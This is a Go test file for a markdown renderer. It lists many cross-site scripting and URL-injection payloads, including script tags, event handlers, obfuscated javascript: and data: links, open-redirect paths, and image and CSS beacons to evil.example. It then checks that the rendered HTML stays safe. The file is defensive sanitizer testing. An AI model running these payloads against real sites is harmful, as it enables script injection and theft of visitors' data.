package kb_test

import (
	"fmt"
	"strings"
	"testing"
)

// attacks are articles that try to run script in a reader's browser, or to make it
// fetch something.
var attacks = []string{
	// Raw HTML, as block and inline.
	"<script>alert(1)</script>",
	"a <script>alert(1)</script> b",
	"<ScRiPt src=//evil.example/x.js></sCrIpT>",
	"<script\n>alert(1)</script\n>",
	"<<script>alert(1)//<</script>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<img src=x onerror=alert(1)>",
	"a <IMG SRC=x OnErRoR=alert(1)> b",
	"<img src=\"https://evil.example/p.png?secret\">",
	"<img srcset=\"https://evil.example/p.png 1x\">",
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
	"<svg><style><img src=x onerror=alert(1)></style></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
	"<iframe src=javascript:alert(1)></iframe>",
	"<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
	"<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
	"<embed src=//evil.example/x.swf>",
	"<base href=//evil.example/>",
	"<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<style>@import '//evil.example/x.css';</style>",
	"<style>body{background:url(//evil.example/p)}</style>",
	"<p style=\"background:url(//evil.example/p)\">x</p>",
	"<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
	"<video src=//evil.example/v poster=//evil.example/p></video>",
	"<audio src=x onerror=alert(1)>",
	"<details open ontoggle=alert(1)>x</details>",
	"<body onload=alert(1)>",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<a href=\"https://example.org\" target=_blank onclick=alert(1)>x</a>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<template><script>alert(1)</script></template>",
	"<textarea><script>alert(1)</script></textarea>",
	"<title></title><script>alert(1)</script>",
	"<xmp><script>alert(1)</script></xmp>",
	"<!--><script>alert(1)</script>-->",
	"<!-- --!><script>alert(1)</script> -->",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?php echo '<script>alert(1)</script>' ?>",
	"<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]>&y;",
	"<div>\n<script>\nalert(1)\n\n</script>\n</div>",
	"<table background=//evil.example/p><tr><td>x</table>",
	"</main></body><script>alert(1)</script>",
	// Script in addresses.
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](javascript&colon;alert(1))",
	"[x](javascript&#58;alert(1))",
	"[x](javascript&#x3A;alert(1))",
	"[x](&#106;avascript:alert(1))",
	"[x](java&#9;script:alert(1))",
	"[x](java&#10;script:alert(1))",
	"[x](java&NewLine;script:alert(1))",
	"[x](java&Tab;script:alert(1))",
	"[x](&#1;javascript:alert(1))",
	"[x](\x01javascript:alert(1))",
	"[x](<\tjavascript:alert(1)>)",
	"[x](< javascript:alert(1)>)",
	"[x](javascript\\:alert(1))",
	"[x](&amp;#106;avascript:alert(1))",
	"[x](\u200bjavascript:alert(1))",
	"[x](\u00a0javascript:alert(1))",
	"[x](\ufeffjavascript:alert(1))",
	"[x](javascript://example.org/%0aalert(1))",
	"[x](javascript%3Aalert(1))",
	"[x](vbscript:msgbox(1))",
	"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"[x](data:image/svg+xml,<svg/onload=alert(1)>)",
	"[x](blob:https://example.org/1)",
	"[x](file:///etc/passwd)",
	"[x](feed:javascript:alert(1))",
	"[x](view-source:javascript:alert(1))",
	"[x](ms-msdt:/id)",
	"[x](//evil.example/)",
	"[x](/\\evil.example/)",
	"[x](\\\\evil.example/)",
	"[x](/&#9;/evil.example/)",
	"[x](/%2F/../evil.example)",
	"[x](/.//evil.example)",
	"[x](///evil.example)",
	"[x](http:/\\evil.example)",
	"[x](http:evil.example)",
	"[x](https://)",
	"[x](articles/../../..//evil.example)",
	"[x](?q=a)",
	"[x](%)",
	"[x](http://[::1)",
	"[x](mailto:)",
	"[x](mailto:a@b.c?body=%0d%0aBcc:x)",
	// By reference.
	"[x][r]\n\n[r]: javascript:alert(1)",
	"[x][r]\n\n[r]: <javascript:alert(1)> \"t\"",
	"[r]\n\n[r]: java&#115;cript:alert(1)",
	"![x][r]\n\n[r]: https://evil.example/p.png?q=secret",
	"![x][r]\n\n[r]: javascript:alert(1)",
	"[r]: //evil.example\n\n[x][r] ![y][r]",
	// Bare addresses.
	"<javascript:alert(1)>",
	"<JAVASCRIPT:alert(1)>",
	"<data:text/html,<script>alert(1)</script>>",
	"<vbscript:msgbox>",
	"<x:y>",
	"<//evil.example>",
	"javascript:alert(1)",
	"http://example.org/\"onmouseover=alert(1)//",
	"http://example.org/'><script>alert(1)</script>",
	"<http://example.org/\"onmouseover=\"alert(1)>",
	"www.example.org/<script>",
	"<a@b.c\"onclick=alert(1)>",
	// Images.
	"![x](https://evil.example/p.png)",
	"![x](//evil.example/p.png)",
	"![x](data:image/svg+xml;base64,PHN2Zy8+)",
	"![x](javascript:alert(1))",
	"![x\" onerror=\"alert(1)](x)",
	"![<img src=x onerror=alert(1)>](https://evil.example/p)",
	"![a](b \"onerror=alert(1)\")",
	"[![x](https://evil.example/p.png)](javascript:alert(1))",
	"![![x](https://evil.example/1)](https://evil.example/2)",
	// Breaking out of what we write.
	"[x](https://example.org/\"onmouseover=\"alert(1))",
	"[x](<https://example.org/\"><script>alert(1)</script>>)",
	"[x](https://example.org/&quot;onmouseover=alert(1))",
	"[x](other.md \"\\\" onmouseover=alert(1)\")",
	"[x\"><script>alert(1)</script>](other.md)",
	"# x {onclick=alert(1)}",
	"# x\" onclick=\"alert(1)",
	"# <script>alert(1)</script>",
	"# \" id=\"x",
	"```x\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
	"```<script>\ncode\n```",
	"```javascript onload=alert(1)\ncode\n```",
	"`<script>alert(1)</script>`",
	"    <script>alert(1)</script>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"&amp;lt;script&amp;gt;",
	"\\<script>alert(1)</script>",
	"| a |\n|---|\n| <script>alert(1)</script> |",
	"| a |\n|:-:\" onclick=x|\n| [x](javascript:alert(1)) |",
	"- [x] <script>alert(1)</script>",
	"- [ ](javascript:alert(1))",
	"~~<script>~~alert(1)</script>",
	"*<img src=x*onerror=alert(1)>",
	"> <script>\n> alert(1)\n> </script>",
	"1\" onclick=alert(1). x",
	"\x00<script>\x00alert(1)</script>",
	"\xff<script>alert(1)</script>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"\u2028<script>alert(1)</script>",
	"＜script＞alert(1)＜/script＞",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}

func TestRenderAttacks(t *testing.T) {
	if len(attacks) < 100 {
		t.Fatalf("only %d attacks", len(attacks))
	}
	for i, markdown := range attacks {
		// Alone, inside other blocks, and with words before it in the same line.
		for j, wrapped := range []string{
			markdown, "> " + markdown, "- " + markdown, "# " + markdown, "words " + markdown + " words",
			"| a |\n|---|\n| " + strings.ReplaceAll(markdown, "\n", " ") + " |", "**" + markdown + "**",
			"[" + markdown + "](other.md)", "![" + markdown + "](https://example.org/p.png)",
		} {
			t.Run(fmt.Sprintf("%d.%d %.30q", i, j, markdown), func(t *testing.T) {
				html, err := render(wrapped, known)
				if err != nil {
					t.Fatal(err)
				}
				assertSafe(t, html)
			})
		}
	}
}
